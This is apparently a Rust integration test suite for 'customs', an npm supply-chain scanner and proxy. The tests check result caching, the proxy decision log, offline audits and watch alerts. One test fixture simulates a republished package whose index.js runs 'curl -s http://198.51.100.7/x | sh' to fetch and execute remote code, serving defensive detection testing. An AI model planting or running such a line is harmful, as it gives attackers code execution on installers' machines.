//! Judgements kept by content, reused by `scan` and the proxy: a registry release judged
//! before under the same key (its bytes, the release it was compared with, the policy,
//! the rule catalogue, the customs version) is not read again; anything else in the key
//! judges it again, and a kept judgement is never reused for other bytes. The proxy's
//! decision log holds one record per artifact and decision, and forgets old ones.
//!
//! Every registry here is served on loopback; each run counts the upstream's requests.

#![allow(clippy::unwrap_used)]

mod common;

use std::path::{Path, PathBuf};

use common::fixtures::{NpmRelease, both, env_for, json_of, npm_package, run};
use common::loopback::Loopback;
use serde_json::Value;

const CLEAN: &[(&str, &[u8])] = &[("index.js", b"module.exports = (a, b) => a + b;\n")];
const CLEAN_TOO: &[(&str, &[u8])] = &[("index.js", b"module.exports = (a, b) => a * b;\n")];

/// Serves `name` 1.0.0 and 1.1.0 (clean); returns their tarball paths.
fn serve_clean(server: &Loopback, name: &str) -> (String, String) {
    let paths = npm_package(
        server,
        name,
        &[
            NpmRelease {
                version: "1.0.0",
                files: CLEAN,
            },
            NpmRelease {
                version: "1.1.0",
                files: CLEAN_TOO,
            },
        ],
    );
    (paths[0].clone(), paths[1].clone())
}

/// `customs scan TARGET --format json ARGS…`, with the exit code it must give.
fn scan(dir: &Path, server: &Loopback, target: &str, extra: &[&str], code: i32) -> Value {
    let mut args = vec!["scan", target, "--format", "json"];
    args.extend_from_slice(extra);
    let out = run(dir, &args, &env_for(server, dir));
    assert_eq!(out.status.code(), Some(code), "{}", both(&out));
    json_of(&out)
}

/// The one package of a scan report.
fn only(report: &Value) -> &Value {
    let packages = report["packages"].as_array().unwrap();
    assert_eq!(packages.len(), 1, "{report:#}");
    &packages[0]
}

/// Requests of `path` since the last call, and forgets them.
fn taken(server: &Loopback, path: &str) -> usize {
    let mut hits = server.hits.lock().unwrap();
    let n = hits.iter().filter(|p| *p == path).count();
    hits.retain(|p| p != path);
    n
}

/// The kept judgement records.
fn records(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for sub in std::fs::read_dir(dir.join("cache/results"))
        .unwrap()
        .flatten()
    {
        for f in std::fs::read_dir(sub.path()).unwrap().flatten() {
            if f.path().extension().is_some_and(|e| e == "json") {
                out.push(f.path());
            }
        }
    }
    out
}

/// The artifacts leave the cache: a scan that needs one must download it.
fn forget_artifacts(dir: &Path) {
    let _ = std::fs::remove_dir_all(dir.join("cache/artifacts"));
}

#[test]
fn scan_reuses_a_kept_judgement_and_judges_again_when_the_policy_changes() {
    let dir = tempfile::tempdir().unwrap();
    let server = Loopback::start();
    let (old, new) = serve_clean(&server, "kept-a");
    let cold = scan(dir.path(), &server, "npm:kept-a@1.1.0", &[], 0);
    assert_eq!((taken(&server, &new), taken(&server, &old)), (1, 1));

    forget_artifacts(dir.path());
    let warm = scan(dir.path(), &server, "npm:kept-a@1.1.0", &[], 0);
    assert_eq!(
        (taken(&server, &new), taken(&server, &old)),
        (0, 0),
        "judged before: nothing read"
    );
    let (a, b) = (only(&cold), only(&warm));
    for field in ["verdict", "score", "sha256", "findings", "name", "version"] {
        assert_eq!(a[field], b[field], "{field}: {a:#} / {b:#}");
    }

    // Another policy (an ignore setting) judges again; so does --rejudge.
    scan(
        dir.path(),
        &server,
        "npm:kept-a@1.1.0",
        &["--ignore", "npm-install-script"],
        0,
    );
    assert_eq!((taken(&server, &new), taken(&server, &old)), (1, 1));
    forget_artifacts(dir.path());
    scan(dir.path(), &server, "npm:kept-a@1.1.0", &["--rejudge"], 0);
    assert_eq!((taken(&server, &new), taken(&server, &old)), (1, 1));
}

#[test]
fn scan_judges_again_what_another_rule_catalogue_judged() {
    let dir = tempfile::tempdir().unwrap();
    let server = Loopback::start();
    let (old, new) = serve_clean(&server, "kept-b");
    scan(dir.path(), &server, "npm:kept-b@1.1.0", &[], 0);
    assert_eq!((taken(&server, &new), taken(&server, &old)), (1, 1));

    // The records say another catalogue judged them (an older or newer customs, changed
    // rules): none is reused.
    let kept = records(dir.path());
    assert!(!kept.is_empty());
    for path in &kept {
        let mut record: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
        assert!(record["catalogue"].is_string(), "{record:#}");
        record["catalogue"] = Value::from("another catalogue");
        std::fs::write(path, serde_json::to_vec(&record).unwrap()).unwrap();
    }
    forget_artifacts(dir.path());
    scan(dir.path(), &server, "npm:kept-b@1.1.0", &[], 0);
    assert_eq!(
        (taken(&server, &new), taken(&server, &old)),
        (1, 1),
        "judged again"
    );
}

#[test]
fn a_kept_judgement_is_never_reused_for_other_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let server = Loopback::start();
    let (_, clean_new) = serve_clean(&server, "kept-c");
    let first = scan(dir.path(), &server, "npm:kept-c@1.1.0", &[], 0);
    assert_eq!(only(&first)["verdict"], "clean", "{first:#}");

    // The index now lists other bytes for the same file name and version: a release
    // republished with a payload that runs at install time.
    let hostile: &[(&str, &[u8])] = &[(
        "index.js",
        b"require('child_process').execSync('curl -s http://198.51.100.7/x | sh');\n",
    )];
    let paths = npm_package(
        &server,
        "kept-c",
        &[
            NpmRelease {
                version: "1.0.0",
                files: CLEAN,
            },
            NpmRelease {
                version: "1.1.0",
                files: hostile,
            },
        ],
    );
    assert_eq!(paths[1], clean_new);
    taken(&server, &clean_new);
    let second = scan(
        dir.path(),
        &server,
        "npm:kept-c@1.1.0",
        &["--fail-on", "none"],
        0,
    );
    assert_eq!(taken(&server, &clean_new), 1, "the new bytes are read");
    assert_ne!(only(&first)["sha256"], only(&second)["sha256"]);
    assert_ne!(
        only(&second)["verdict"],
        "clean",
        "judged on its own bytes: {second:#}"
    );

    // A record moved under another artifact's key is not taken for that artifact's.
    let (old_d, new_d) = serve_clean(&server, "kept-d");
    scan(dir.path(), &server, "npm:kept-d@1.1.0", &[], 0);
    let of = |name: &str| -> PathBuf {
        records(dir.path())
            .into_iter()
            .find(|p| {
                let r: Value = serde_json::from_slice(&std::fs::read(p).unwrap()).unwrap();
                r["name"] == name && r["version"] == "1.1.0"
            })
            .unwrap()
    };
    std::fs::copy(of("kept-c"), of("kept-d")).unwrap();
    forget_artifacts(dir.path());
    taken(&server, &old_d);
    taken(&server, &new_d);
    let again = scan(dir.path(), &server, "npm:kept-d@1.1.0", &[], 0);
    assert_eq!(
        (taken(&server, &new_d), taken(&server, &old_d)),
        (1, 1),
        "judged again"
    );
    assert_eq!(only(&again)["name"], "kept-d", "{again:#}");
    assert_eq!(only(&again)["verdict"], "clean", "{again:#}");
}

/// A `customs proxy` of this test, stopped (by its pid) when dropped.
struct Proxy {
    child: std::process::Child,
    url: String,
}

impl Drop for Proxy {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Proxy {
    /// A proxy of `server` with the store in `dir` and the artifact cache `cache`.
    fn start(dir: &Path, server: &Loopback, cache: &str, args: &[&str]) -> Self {
        use std::io::BufRead;
        let home = dir.join("home");
        std::fs::create_dir_all(&home).unwrap();
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_customs"))
            .arg("proxy")
            .args(["--listen", "127.0.0.1:0"])
            .args(["--npm-upstream", &format!("{}/npm/", server.url)])
            .args(["--store", &dir.join("store.sqlite3").display().to_string()])
            .args(["--cache-dir", &dir.join(cache).display().to_string()])
            .args(args)
            .current_dir(dir)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &home)
            .env("PIP_CONFIG_FILE", "/dev/null")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let url = line.trim().to_owned();
        assert!(url.starts_with("http://127.0.0.1:"), "{line:?}");
        Self { child, url }
    }

    /// GET `path`: the status.
    fn status(&self, path: &str) -> u16 {
        use std::io::{Read, Write};
        let addr = self.url.trim_start_matches("http://");
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        write!(
            s,
            "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut all = Vec::new();
        s.read_to_end(&mut all).unwrap();
        let head = String::from_utf8_lossy(&all[..all.len().min(64)]).into_owned();
        head.split_whitespace()
            .nth(1)
            .and_then(|c| c.parse().ok())
            .unwrap_or(0)
    }
}

/// The store's facts about the artifact at `digest_key`.
fn stored_facts(dir: &Path, digest_key: &str) -> Value {
    let store = customs_store::Store::open(&dir.join("store.sqlite3")).unwrap();
    serde_json::from_str(&store.verdict(digest_key).unwrap().unwrap()).unwrap()
}

fn sha512_key(server: &Loopback, path: &str) -> String {
    use sha2::Digest as _;
    format!(
        "sha512:{}",
        hex::encode(sha2::Sha512::digest(common::fixtures::fetch(server, path)))
    )
}

#[test]
fn the_proxy_judges_again_when_the_rules_or_the_policy_change() {
    let dir = tempfile::tempdir().unwrap();
    let server = Loopback::start();
    let (old, new) = serve_clean(&server, "kept-p");
    let key = sha512_key(&server, &new);
    taken(&server, &new);
    // A scan reads the file served and the one of the release it is compared with; a
    // proxy with an empty cache downloads the file it serves in any case. So whether it
    // judged again shows in the requests of the earlier release's file.
    let serve = |cache: &str, args: &[&str]| -> usize {
        let proxy = Proxy::start(dir.path(), &server, cache, args);
        assert_eq!(proxy.status(&new), 200);
        drop(proxy);
        taken(&server, &new);
        taken(&server, &old)
    };
    assert_eq!(serve("cache-1", &[]), 1, "judged");
    assert_eq!(serve("cache-2", &[]), 0, "the kept facts are reused");

    // Facts another rule catalogue (or customs version) judged are judged again.
    let store = customs_store::Store::open(&dir.path().join("store.sqlite3")).unwrap();
    let mut facts = stored_facts(dir.path(), &key);
    assert!(facts["judged_as"].is_string(), "{facts:#}");
    facts["judged_as"] = Value::from("0".repeat(64));
    store.put_verdict(&key, &facts.to_string(), 1).unwrap();
    assert_eq!(serve("cache-3", &[]), 1, "judged again");
    assert_eq!(serve("cache-4", &[]), 0);

    // So are those judged under another policy.
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "fail_on = \"suspicious\"\n").unwrap();
    let policy = policy.display().to_string();
    assert_eq!(serve("cache-5", &["--policy", &policy]), 1, "judged again");
    assert_eq!(serve("cache-6", &["--policy", &policy]), 0);
}

#[test]
fn the_proxy_decision_log_counts_per_artifact_and_forgets_old_decisions() {
    let dir = tempfile::tempdir().unwrap();
    let server = Loopback::start();
    let (_, new) = serve_clean(&server, "kept-l");
    let key = sha512_key(&server, &new);
    let store = customs_store::Store::open(&dir.path().join("store.sqlite3")).unwrap();
    // A decision about another artifact, last made two days ago.
    let day_ms = 86_400_000_i64;
    let now_ms = i64::try_from(
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_millis(),
    )
    .unwrap();
    let old = customs_store::Decision {
        at_ms: now_ms - 2 * day_ms,
        first_ms: 0,
        count: 0,
        ecosystem: "npm".into(),
        package: "gone".into(),
        version: "1.0.0".into(),
        file: "gone-1.0.0.tgz".into(),
        digest: "sha512:00".into(),
        action: "allow".into(),
        verdict: "clean".into(),
        reason: String::new(),
        node: "test".into(),
    };
    store.put_decision(&old).unwrap();
    let recent = customs_store::Decision {
        at_ms: now_ms - day_ms / 2,
        package: "recent".into(),
        digest: "sha512:01".into(),
        ..old.clone()
    };
    store.put_decision(&recent).unwrap();

    let proxy = Proxy::start(
        dir.path(),
        &server,
        "cache",
        &["--decision-retention", "1d"],
    );
    for _ in 0..5 {
        assert_eq!(proxy.status(&new), 200);
    }
    drop(proxy);
    let log = store.decisions(None, 100).unwrap();
    let served: Vec<_> = log.iter().filter(|d| d.digest == key).collect();
    assert_eq!(
        served.len(),
        1,
        "one record per artifact and decision: {log:?}"
    );
    assert_eq!(served[0].count, 5, "{log:?}");
    assert!(served[0].first_ms <= served[0].at_ms);
    assert!(
        log.iter().all(|d| d.package != "gone"),
        "older than the retention: forgotten: {log:?}"
    );
    assert!(
        log.iter().any(|d| d.package == "recent"),
        "within the retention: kept: {log:?}"
    );
}

/// Serves npm package `name` 1.0.0 (clean) and 1.1.0 with `manifest` fields added to its
/// `package.json` and to the registry's document, and `files`; returns 1.1.0's integrity.
fn serve_npm_with(server: &Loopback, name: &str, added: &Value, files: &[(&str, &[u8])]) -> String {
    serve_npm_releases(server, name, added, files, 2)
}

/// As [`serve_npm_with`], listing only the first `listed` releases in the document.
fn serve_npm_releases(
    server: &Loopback,
    name: &str,
    added: &Value,
    files: &[(&str, &[u8])],
    listed: usize,
) -> String {
    use serde_json::json;
    let mut versions = serde_json::Map::new();
    let mut time = serde_json::Map::new();
    let mut integrity = String::new();
    for (i, version) in ["1.0.0", "1.1.0"].iter().take(listed).enumerate() {
        let mut manifest = json!({"name": name, "version": version, "main": "index.js"});
        let mut all: Vec<(&str, &[u8])> = CLEAN.to_vec();
        if i == 1 {
            for (k, v) in added.as_object().unwrap() {
                manifest[k] = v.clone();
            }
            all = files.to_vec();
        }
        let package_json = serde_json::to_vec_pretty(&manifest).unwrap();
        all.insert(0, ("package.json", &package_json));
        let tgz = common::tar_gz_of(&all, "package/");
        let path = format!("/npm/{name}/-/{name}-{version}.tgz");
        server.route(&path, "application/octet-stream", tgz.clone());
        integrity = common::fixtures::sri(&tgz);
        let mut entry = manifest.clone();
        entry["dist"] = json!({"tarball": format!("{}{path}", server.url), "integrity": integrity});
        entry["_npmUser"] = json!({"name": "alice"});
        entry["maintainers"] = json!([{"name": "alice"}]);
        versions.insert((*version).to_owned(), entry);
        let at = 1_700_000_000_i64 + i64::try_from(i).unwrap() * 86_400 * 30;
        time.insert(
            (*version).to_owned(),
            json!(customs_registry::format_rfc3339(at)),
        );
    }
    let latest = if listed > 1 { "1.1.0" } else { "1.0.0" };
    let doc =
        json!({"name": name, "dist-tags": {"latest": latest}, "versions": versions, "time": time});
    server.route(
        &format!("/npm/{name}"),
        "application/json",
        serde_json::to_vec(&doc).unwrap(),
    );
    integrity
}

#[test]
fn an_offline_audit_of_what_is_cached_says_what_the_online_one_said() {
    use serde_json::json;
    let dir = tempfile::tempdir().unwrap();
    let server = Loopback::start();
    // One clean update, one that adds an install hook (a history finding: only a
    // comparison with the release before tells it), one that adds a dependency.
    let deps = vec![
        (
            "off-clean",
            "1.1.0",
            serve_npm_with(&server, "off-clean", &json!({}), CLEAN_TOO),
        ),
        (
            "off-hook",
            "1.1.0",
            serve_npm_with(
                &server,
                "off-hook",
                &json!({"scripts": {"postinstall": "node setup.js"}}),
                &[
                    ("index.js", b"module.exports = 1;\n"),
                    ("setup.js", b"console.log('thanks for installing');\n"),
                ],
            ),
        ),
        (
            "off-dep",
            "1.1.0",
            serve_npm_with(
                &server,
                "off-dep",
                &json!({"dependencies": {"off-clean": "^1.0.0"}}),
                CLEAN_TOO,
            ),
        ),
    ];
    common::fixtures::package_lock(&dir.path().join("app"), &deps);
    let audit = |extra: &[&str]| -> Value {
        let mut args = vec!["audit", "app", "--format", "json"];
        args.extend_from_slice(extra);
        let out = run(dir.path(), &args, &env_for(&server, dir.path()));
        assert!(matches!(out.status.code(), Some(0 | 1)), "{}", both(&out));
        json_of(&out)
    };
    let online = audit(&[]);
    let offline = audit(&["--offline"]);
    let hook = common::fixtures::package(&online, "off-hook");
    assert!(
        hook["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"].as_str().is_some_and(|r| r.starts_with("new-"))),
        "the online audit compared releases: {hook:#}"
    );
    server.hits.lock().unwrap().clear();
    for (name, _, _) in &deps {
        let (a, b) = (
            common::fixtures::package(&online, name),
            common::fixtures::package(&offline, name),
        );
        for field in [
            "verdict",
            "score",
            "sha256",
            "findings",
            "policy",
            "status",
            "advisories",
        ] {
            assert_eq!(a[field], b[field], "{name} {field}:\n{a:#}\n{b:#}");
        }
    }
    assert_eq!(
        online["summary"], offline["summary"],
        "{online:#}\n{offline:#}"
    );
    // Offline asked nothing of the index.
    let offline_again = audit(&["--offline"]);
    assert!(server.hits.lock().unwrap().is_empty());
    assert_eq!(offline_again["summary"], offline["summary"]);
}

#[test]
fn watch_reuses_what_it_concluded_about_a_release_until_the_policy_changes() {
    use serde_json::json;
    let dir = tempfile::tempdir().unwrap();
    let server = Loopback::start();
    let name = "kept-w";
    let hook = json!({"scripts": {"postinstall": "node setup.js"}});
    let files: &[(&str, &[u8])] = &[
        ("index.js", b"module.exports = 1;\n"),
        ("setup.js", b"console.log('thanks for installing');\n"),
    ];
    let tarballs = |server: &Loopback| {
        let mut hits = server.hits.lock().unwrap();
        let n = hits.iter().filter(|p| p.ends_with(".tgz")).count();
        hits.clear();
        n
    };
    // One store per round: the first poll of a store records what exists (1.0.0), the
    // second meets 1.1.0 as new and judges it. The cache (and the kept conclusions in
    // it) is shared by every round.
    let round = |store: &str, extra: &[&str]| -> (usize, usize) {
        let mut env = env_for(&server, dir.path());
        env.retain(|(k, _)| *k != "CUSTOMS_STORE");
        env.push((
            "CUSTOMS_STORE",
            dir.path().join(store).display().to_string(),
        ));
        let alerts = dir.path().join(format!("{store}.jsonl"));
        let watch = || {
            std::thread::sleep(std::time::Duration::from_secs(1));
            let mut args = vec![
                "watch",
                "--package",
                "npm:kept-w",
                "--interval",
                "1s",
                "--once",
                "--alerts-jsonl",
                alerts.to_str().unwrap(),
            ];
            args.extend_from_slice(extra);
            run(dir.path(), &args, &env)
        };
        serve_npm_releases(&server, name, &hook, files, 1);
        let out = watch();
        assert_eq!(out.status.code(), Some(0), "{}", both(&out));
        serve_npm_releases(&server, name, &hook, files, 2);
        forget_artifacts(dir.path());
        tarballs(&server);
        let out = watch();
        assert!(matches!(out.status.code(), Some(0 | 1)), "{}", both(&out));
        let raised = std::fs::read_to_string(&alerts)
            .unwrap_or_default()
            .lines()
            .count();
        (tarballs(&server), raised)
    };
    let (read, alerted) = round("a.sqlite3", &[]);
    assert_eq!(
        (read, alerted),
        (2, 1),
        "judged, and alerted on the new hook"
    );
    assert_eq!(round("b.sqlite3", &[]), (0, 1), "reused: the same alert");
    assert_eq!(
        round("c.sqlite3", &["--ignore", "new-install-hook"]).0,
        2,
        "another policy: judged again"
    );
}
